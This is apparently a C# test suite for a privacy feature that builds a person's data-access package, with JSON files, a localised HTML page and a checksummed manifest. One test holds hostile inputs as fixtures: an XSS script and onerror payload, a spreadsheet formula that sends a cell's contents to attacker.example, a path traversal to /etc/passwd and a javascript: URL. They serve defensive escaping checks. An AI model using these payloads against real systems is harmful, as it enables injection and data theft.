using System.Globalization;
using System.Security.Cryptography;
using System.Text.Json;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using PrivacyFunctions.Fulfilment;
using PrivacyFunctions.Fulfilment.Words;
using PrivacyFunctions.Languages;
using PrivacyFunctions.Local.SampleShop;
using PrivacyFunctions.Requests;
using PrivacyFunctions.Security;
using PrivacyFunctions.Sources;
using PrivacyFunctions.Sources.Map;
using PrivacyFunctions.Sources.Sql;
using PrivacyFunctions.Tests.Sources;

namespace PrivacyFunctions.Tests.Fulfilment;

public sealed class CopyPackageTests : IDisposable
{
    private readonly SampleShopSources _sample = new();
    private readonly DataSources _shop;

    public CopyPackageTests() => _shop = _sample.Sources;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Somebody_receives_their_records_and_nobody_elses()
    {
        Assert.Empty(await _shop.Check(Ct));
        var package = await Packages.Make(_shop, "Mei.Lin@example.com", Language.ZhCn);
        Assert.Equal(
            ["data/shop/customer.json", "data/shop/address.json", "data/shop/orders.json", "data/shop/payment.json", "data/uploads/files.json", "data/uploads/pictures_avatar.png", "data/uploads/备注.txt", "index.html", "manifest.json"],
            package.Files.Keys);
        Assert.Equal([1, 1, 6, 6, 2], package.Made.Findings.Collections.Select(c => c.Records));
        Assert.Equal(16, package.Made.Findings.Records);
        Assert.Equal(
            package.Made.Findings.Collections,
            (await new CopyPackage(_shop, Packages.Store(), TimeProvider.System).Preview(package.Order.Identities, [], Ct)).Collections);
        var order = JsonDocument.Parse(package.Files["data/shop/orders.json"]).RootElement[2];
        Assert.Equal("儿童雨衣", order.GetProperty("item").GetString());
        Assert.True(order.GetProperty("gift").GetBoolean());
        Assert.All(package.Files.Keys, path => Assert.DoesNotContain("sam.taylor", package.Text(path), StringComparison.Ordinal));
        Assert.All(package.Files.Keys, path => Assert.DoesNotContain("argon2", package.Text(path), StringComparison.Ordinal));
        Assert.Equal([new DateTime(2026, 12, 8, 2, 5, 0)], package.Times);
    }

    [Theory]
    [InlineData("en", "Personal data disclosed to an authority", "Who receives your data")]
    [InlineData("zh-CN", "向主管机关提供的个人信息", "您的个人信息")]
    public async Task An_authority_receives_what_it_demands_and_nothing_that_only_leads_there(string tag, string title, string forPeople)
    {
        DemandedData[] scope = [new("shop", "payment")];
        var package = await Packages.Make(_shop, "mei.lin@example.com", Language.Parse(tag), scope: scope);
        Assert.Equal(["data/shop/payment.json", "index.html", "manifest.json"], package.Files.Keys);
        Assert.Equal([new CollectionCount("shop", "payment", 6)], package.Made.Findings.Collections);
        Assert.Equal(
            package.Made.Findings.Collections,
            (await new CopyPackage(_shop, Packages.Store(), TimeProvider.System).Preview(package.Order.Identities, [], Ct, scope)).Collections);
        var text = new HtmlParser().ParseDocument(package.Text("index.html")).Body!.TextContent;
        Assert.Contains(title, text, StringComparison.Ordinal);
        Assert.DoesNotContain(forPeople, text, StringComparison.Ordinal);
        Assert.All(package.Files.Keys, path => Assert.DoesNotContain("mei.lin", package.Text(path), StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task What_an_authority_does_not_demand_and_does_not_lead_there_is_not_opened()
    {
        var sources = _sample.Wrapped(source => source.Name == "uploads" ? new UnopenedSource(source.Name) : source);
        Assert.Equal(6, (await sources.Within([new CollectionAddress("shop", "orders")]).Count([new ProvenIdentity("email", "mei.lin@example.com")], Ct)).Single().Records);
        Assert.Empty(await sources.Within([]).Count([new ProvenIdentity("email", "mei.lin@example.com")], Ct));
    }

    private sealed class UnopenedSource(string name) : ISource
    {
        public string Name => name;

        public Task<ISourceReading> Open(CancellationToken ct) => throw new InvalidOperationException("It was opened.");

        public Task<ISourceErasing> OpenForErasure(CancellationToken ct) => throw new InvalidOperationException("It was opened.");
    }

    [Theory]
    [InlineData("en", "A copy of your data", "Orders", "6 records", "Kinds of data: purchases, private messages and files.", "Made on", "Tuesday 8 December 2026, 02:05, Beijing time")]
    [InlineData("zh-CN", "您的个人信息副本", "订单", "6条记录", "信息类别：购买记录、私密内容。", "制作时间", "2026年12月8日")]
    public async Task The_page_is_in_the_persons_language_and_says_what_it_is(
        string tag, string title, string orders, string count, string categories, string made, string date)
    {
        var package = await Packages.Make(_shop, "mei.lin@example.com", Language.Parse(tag));
        var page = new HtmlParser().ParseDocument(package.Text("index.html"));
        Assert.Equal(tag, page.DocumentElement.GetAttribute("lang"));
        Assert.Equal(title, page.QuerySelector("h1")!.TextContent);
        Assert.Contains(orders, page.QuerySelectorAll("h2").Select(h => h.TextContent));
        var text = page.Body!.TextContent;
        Assert.All([count, categories, made, date, package.Order.Reference.Value, "privacy@example.com"], expected => Assert.Contains(expected, text, StringComparison.Ordinal));
        Assert.All(page.QuerySelectorAll("table"), table =>
        {
            Assert.NotEmpty(table.QuerySelector("caption")!.TextContent);
            Assert.All(table.QuerySelectorAll("th"), th => Assert.True(th.HasAttribute("scope")));
        });
        Assert.All(page.QuerySelectorAll("a"), a => Assert.True(
            a.GetAttribute("href") is ['#', .. var id] ? page.GetElementById(id) is not null : package.Files.ContainsKey(Uri.UnescapeDataString(a.GetAttribute("href")!))));
        var style = Assert.Single(page.QuerySelectorAll("style")).TextContent;
        Assert.Equal(IndexPage.StyleHash, $"sha256-{Convert.ToBase64String(SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(style)))}");
    }

    [Theory]
    [InlineData(
        "en",
        "Delivery address|Why we have such data: To deliver the goods or services that you bought|Where it comes from: From you; From other people who use our services",
        "Who receives your data",
        "Payment services|What for: Taking payment, verifying transactions, settling income and summing up payments|What they can receive: Orders and purchases; Payments|Your rights there: Ask the payment institution that you chose. Its own terms and privacy statement apply to what it does with your data.")]
    [InlineData(
        "zh-CN",
        "收货地址|收集和使用目的: 向您交付您购买的商品或服务|信息来源: 由您提供; 由其他用户提供",
        "您的个人信息的接收方",
        "支付服务提供方|用途: 订单支付、交易行为核验、收入结算、支付信息汇总统计等|可能接收的信息: 订单、交易和消费记录; 支付信息|如何向其行使权利: 请向您选择的支付机构提出申请。其对您个人信息的处理\uff0c适用其自身的服务条款及个人信息保护声明。")]
    public async Task The_page_says_why_where_from_and_who_receives_it(string tag, string address, string recipients, string payment)
    {
        var package = await Packages.Make(_shop, "mei.lin@example.com", Language.Parse(tag));
        var page = new HtmlParser().ParseDocument(package.Text("index.html"));
        var said = page.QuerySelectorAll("section dl").Select(list =>
            string.Join('|', [HeadingOf(list), .. list.QuerySelectorAll("dt").Select(Fact)])).ToList();
        Assert.Contains(address, said);
        Assert.Contains(payment, said);
        Assert.Equal(recipients, page.QuerySelector("#recipients")!.TextContent);
        Assert.Equal(
            Packages.Profile.RecipientTypes.Select(r => r.Title.In(package.Order.Language)),
            page.QuerySelectorAll("#recipients ~ h3").Select(h => h.TextContent));
    }

    [Fact]
    public async Task The_manifest_says_why_where_from_and_who_receives_it()
    {
        var package = await Packages.Make(_shop, "mei.lin@example.com", Language.En);
        var manifest = JsonDocument.Parse(package.Files["manifest.json"]).RootElement;
        var address = manifest.GetProperty("entries").EnumerateArray().Single(e => e.GetProperty("path").GetString() == "data/shop/address.json");
        Assert.Equal("delivery", Assert.Single(Texts(address, "purposes")));
        Assert.Equal(["you", "others"], Texts(address, "origin"));
        Assert.Equal(["transaction-partners", "affiliates", "business-partners", "authorities"], Texts(address, "recipients"));

        var purposes = manifest.GetProperty("purposes").EnumerateArray().ToDictionary(p => p.GetProperty("code").GetString()!);
        Assert.Equal("essential.service", purposes["delivery"].GetProperty("dataUse").GetString());
        Assert.Equal("To deliver the goods or services that you bought", purposes["delivery"].GetProperty("text").GetString());
        Assert.DoesNotContain("advertising", purposes.Keys);
        var recipients = manifest.GetProperty("recipients").EnumerateArray().ToList();
        Assert.Equal(Packages.Profile.RecipientTypes.Select(r => r.Code), recipients.Select(r => r.GetProperty("code").GetString()));
        Assert.Equal("Ask us. We tell you as far as the law allows.", recipients[^1].GetProperty("rights").GetString());
        foreach (var entry in manifest.GetProperty("entries").EnumerateArray().Where(e => e.TryGetProperty("dataCategories", out _)))
        {
            Assert.All(Texts(entry, "purposes"), code => Assert.Contains(code, purposes.Keys));
        }

        static IEnumerable<string> Texts(JsonElement entry, string name) => entry.GetProperty(name).EnumerateArray().Select(t => t.GetString()!);
    }

    [Fact]
    public async Task Of_data_that_the_policy_does_not_speak_of_nothing_is_said()
    {
        using var database = new TestDatabase().Run("CREATE TABLE a (email TEXT, x TEXT); INSERT INTO a VALUES ('mei@example.com', 'y')");
        var sources = database.Under("dataset: [{ fides_key: shop, collections: [{ name: a, fields: [{ name: email, fides_meta: { identity: email } }, { name: x, data_categories: [user.genetic] }] }] }]");
        var package = await Packages.Make(sources, "mei@example.com", Language.En);
        var entry = JsonDocument.Parse(package.Files["manifest.json"]).RootElement.GetProperty("entries")[0];
        Assert.All(["purposes", "origin", "recipients"], name => Assert.Equal(0, entry.GetProperty(name).GetArrayLength()));
        Assert.Null(new HtmlParser().ParseDocument(package.Text("index.html")).QuerySelector("#s1 ~ dl"));
    }

    [Fact]
    public async Task The_manifest_lists_every_file_with_its_checksum()
    {
        var package = await Packages.Make(_shop, "sam.taylor@example.com", Language.En);
        var manifest = JsonDocument.Parse(package.Files["manifest.json"]).RootElement;
        Assert.Equal(package.Order.Reference.Value, manifest.GetProperty("reference").GetString());
        Assert.Equal("2026-12-08T02:05:00+08:00", manifest.GetProperty("madeAt").GetString());
        Assert.Equal("en", manifest.GetProperty("languages")[0].GetString());
        var entries = manifest.GetProperty("entries").EnumerateArray().ToList();
        Assert.Equal(package.Files.Keys.Where(path => path != "manifest.json"), entries.Select(e => e.GetProperty("path").GetString()!));
        foreach (var entry in entries)
        {
            var file = package.Files[entry.GetProperty("path").GetString()!];
            Assert.Equal(file.LongLength, entry.GetProperty("bytes").GetInt64());
            Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(file)), entry.GetProperty("sha256").GetString());
        }

        var customer = entries[0];
        Assert.Equal(1, customer.GetProperty("records").GetInt64());
        Assert.Contains("user.contact.email", customer.GetProperty("dataCategories").EnumerateArray().Select(c => c.GetString()));
        Assert.Equal(["password_hash"], customer.GetProperty("withheld").EnumerateArray().Select(c => c.GetString()));
    }

    [Fact]
    public async Task Hostile_values_are_text_and_nothing_else()
    {
        var package = await Packages.Make(_shop, "hostile@example.com", Language.En);
        var source = package.Text("index.html");
        var page = new HtmlParser().ParseDocument(source);
        Assert.Empty(page.QuerySelectorAll("script, img, iframe, object, link, form, base"));
        Assert.Single(page.QuerySelectorAll("style"));
        Assert.All(page.All, element => Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.Ordinal)));
        var cells = page.QuerySelectorAll("td bdi").Select(c => c.TextContent).ToList();
        Assert.Contains("<script>alert(1)</script><img src=x onerror=alert(2)>", cells);
        Assert.Contains("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", cells);
        Assert.Contains("../../etc/passwd", cells);
        Assert.Contains("javascript:alert(1)", cells);
        Assert.DoesNotContain('\u202e', source);
        Assert.Contains(cells, cell => cell.StartsWith("+86 1[U+202E]38[U+202C]", StringComparison.Ordinal));
        Assert.Contains(cells, cell => cell.Length < 500 && cell.EndsWith("长 […]", StringComparison.Ordinal));

        var customer = JsonDocument.Parse(package.Files["data/shop/customer.json"]).RootElement[0];
        Assert.Equal("<script>alert(1)</script><img src=x onerror=alert(2)>", customer.GetProperty("name").GetString());
        Assert.Equal("+86 1\u202e38\u202c \u0007\u0000\u200b", customer.GetProperty("phone").GetString());
        Assert.DoesNotContain("<", package.Text("data/shop/customer.json"), StringComparison.Ordinal);
        Assert.DoesNotContain('\u202e', package.Text("data/shop/customer.json"));
        var note = JsonDocument.Parse(package.Files["data/shop/orders.json"]).RootElement[0].GetProperty("note").GetString()!;
        Assert.Equal(20_004, note.Length);
    }

    [Fact]
    public async Task File_names_are_safe_whatever_collections_are_called()
    {
        using var database = new TestDatabase();
        string[] names = ["../../up", "CON", "aux.txt", "订单", "e\u0301t\u00e9", "\u00e9te\u0301", "a\u202eb", "🛒", "Orders", "orders", "a/b", "a\\b", ".", "..", "x:y", new('n', 100), new('\u0958', 100), "lpt1"];
        var collections = names.Select(name =>
        {
            database.Run($"""CREATE TABLE IF NOT EXISTS "{name}{(name == "orders" ? " 2" : "")}" (email TEXT)""");
            return $"{{ name: '{name}{(name == "orders" ? " 2" : "")}', fields: [{{ name: email, fides_meta: {{ identity: email }} }}] }}";
        });
        var sources = database.Under($"dataset: [{{ fides_key: nul.shop, collections: [{string.Join(", ", collections)}] }}]");
        var package = await Packages.Make(sources, "mei@example.com", Language.En);
        Assert.Equal(names.Length + 2, package.Files.Keys.Distinct(StringComparer.OrdinalIgnoreCase).Count());
        Assert.Superset(new HashSet<string> { "data/_nul.shop/订单.json", "data/_nul.shop/été.json", "data/_nul.shop/été-2.json", "data/_nul.shop/a_b-3.json", "data/_nul.shop/_.json" }, package.Files.Keys.ToHashSet());
        Assert.All(package.Files.Keys.Where(p => p.StartsWith("data", StringComparison.Ordinal)), path =>
        {
            Assert.Matches(@"^data/_nul\.shop/[\p{L}0-9_-][\p{L}\p{M}0-9_.-]{0,60}\.json$", path);
            Assert.True(path.IsNormalized(), path);
            Assert.InRange(System.Text.Encoding.UTF8.GetByteCount(path.Split('/')[2]), 1, 255);
            Assert.DoesNotContain("..", path, StringComparison.Ordinal);
            Assert.False(new[] { "con", "aux", "lpt1" }.Contains(path.Split('/')[2].Split('.')[0], StringComparer.OrdinalIgnoreCase));
        });
    }

    [Fact]
    public async Task Names_that_the_map_redacts_appear_nowhere()
    {
        using var database = new TestDatabase().Run("CREATE TABLE hiv_clinic (email TEXT, viral_load TEXT); INSERT INTO hiv_clinic VALUES ('mei@example.com', 'low')");
        var sources = database.Under("""
            dataset:
              - fides_key: hospital_x
                fides_meta: { redact: name }
                collections:
                  - name: hiv_clinic
                    fides_meta: { redact: name }
                    fields:
                      - { name: email, fides_meta: { identity: email } }
                      - { name: viral_load, fides_meta: { redact: name } }
            """);
        var package = await Packages.Make(sources, "mei@example.com", Language.ZhCn);
        Assert.Contains("data/source_1/collection_1.json", package.Files.Keys);
        Assert.All(package.Files.Values, file => Assert.DoesNotMatch("hiv|viral|hospital", System.Text.Encoding.UTF8.GetString(file)));
        Assert.Equal("low", JsonDocument.Parse(package.Files["data/source_1/collection_1.json"]).RootElement[0].GetProperty("field_2").GetString());
    }

    [Fact]
    public async Task Many_records_are_all_in_the_file_and_the_first_on_the_page()
    {
        using var database = new TestDatabase().Run("""
            CREATE TABLE visit (email TEXT, n INTEGER);
            WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 1200) INSERT INTO visit SELECT 'mei@example.com', n FROM c;
            """);
        var sources = database.Under("dataset: [{ fides_key: shop, collections: [{ name: visit, fields: [{ name: email, fides_meta: { identity: email } }, { name: n }] }] }]");
        var package = await Packages.Make(sources, "mei@example.com", Language.En);
        Assert.Equal(1200, JsonDocument.Parse(package.Files["data/shop/visit.json"]).RootElement.GetArrayLength());
        var page = new HtmlParser().ParseDocument(package.Text("index.html"));
        Assert.Equal(500, page.QuerySelectorAll("section tbody tr").Length);
        Assert.Contains("The first 500 of 1,200 records are shown. All of them are in the file: data/shop/visit.json", page.Body!.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_source_that_fails_half_way_leaves_no_package()
    {
        using var database = new TestDatabase().Run("CREATE TABLE a (email TEXT); INSERT INTO a VALUES ('mei@example.com')");
        var sources = database.Under("dataset: [{ fides_key: shop, collections: [{ name: a, fields: [{ name: email, fides_meta: { identity: email } }] }, { name: b, fields: [{ name: email, fides_meta: { identity: email } }] }] }]");
        var order = Packages.Order("mei@example.com", Language.En);
        var key = RequestKey.New();
        await Assert.ThrowsAsync<SourceFailedException>(() => new CopyPackage(sources, Packages.Store(), TimeProvider.System).Make(order, key, Ct));
        Assert.Null(await Packages.Store().OpenRead(order.Reference, key, Ct));
    }

    [Fact]
    public async Task Without_anything_proven_there_is_no_copy()
    {
        var order = Packages.Order("mei.lin@example.com", Language.En) with { Identities = [] };
        await Assert.ThrowsAsync<ArgumentException>(() => new CopyPackage(_shop, Packages.Store(), TimeProvider.System).Make(order, RequestKey.New(), Ct));
    }

    [Fact]
    public async Task The_page_is_read_back_from_the_stored_package()
    {
        var order = Packages.Order("mei.lin@example.com", Language.En);
        var key = RequestKey.New();
        await new CopyPackage(_shop, Packages.Store(), TimeProvider.System).Make(order, key, Ct);
        await using var package = await Packages.Store().OpenRead(order.Reference, key, Ct);
        Assert.Contains("<h1>A copy of your data</h1>", await PackageReader.ReadIndex(package!, Ct), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("user.contact.email", "e-mail address", "电子邮箱")]
    [InlineData("user.contact.pager", "contact details", "联系方式")]
    [InlineData("user.contacts", "other information about you", "其他个人信息")]
    [InlineData("unheard_of", "other information about you", "其他个人信息")]
    public void A_category_without_a_name_takes_that_of_the_one_above(string category, string en, string zhCn) =>
        Assert.Equal((en, zhCn), (CategoryNames.InWords(category, Language.En), CategoryNames.InWords(category, Language.ZhCn)));

    [Fact]
    public async Task Three_hundred_thousand_records_pass_through_flat_memory()
    {
        using var database = new TestDatabase().Run("""
            CREATE TABLE customer (id INTEGER, email TEXT); INSERT INTO customer VALUES (1, 'mei@example.com');
            CREATE TABLE visit (id INTEGER PRIMARY KEY, customer_id INTEGER, page TEXT);
            WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 300000)
            INSERT INTO visit SELECT n, 1, hex(randomblob(60)) FROM c;
            """);
        var sources = database.Under("""
            dataset:
              - fides_key: shop
                collections:
                  - name: customer
                    fields: [{ name: id }, { name: email, fides_meta: { identity: email } }]
                  - name: visit
                    fields: [{ name: id }, { name: customer_id, fides_meta: { references: [{ dataset: shop, field: customer.id, direction: from }] } }, { name: page }]
            """);
        var before = GC.GetTotalMemory(forceFullCollection: true);
        var peak = 0L;
        await using (new Timer(_ => peak = Math.Max(peak, GC.GetTotalMemory(forceFullCollection: true)), null, 0, 250))
        {
            var started = TimeProvider.System.GetTimestamp();
            var made = await new CopyPackage(sources, Packages.Store(), TimeProvider.System).Make(Packages.Order("mei@example.com", Language.En), RequestKey.New(), Ct);
            Assert.Equal(300_001, made.Findings.Records);
            var seconds = TimeProvider.System.GetElapsedTime(started).TotalSeconds;
            TestContext.Current.TestOutputHelper!.WriteLine(string.Create(
                CultureInfo.InvariantCulture,
                $"300,001 records, {made.Package.Size / 1048576.0:F1} MiB, {seconds:F1} s; live managed memory grew by at most {(peak - before) / 1048576.0:F1} MiB."));
        }
    }

    public void Dispose() => _sample.Dispose();

    private static string HeadingOf(IElement list)
    {
        var element = list;
        while (element.LocalName is not ("h2" or "h3"))
        {
            element = element.PreviousElementSibling!;
        }

        return element.TextContent;
    }

    // "Why: one; two" of a dt and the dds after it.
    private static string Fact(IElement name)
    {
        var values = new List<string>();
        for (var next = name.NextElementSibling; next?.LocalName == "dd"; next = next.NextElementSibling)
        {
            values.Add(next.TextContent);
        }

        return $"{name.TextContent}: {string.Join("; ", values)}";
    }
}
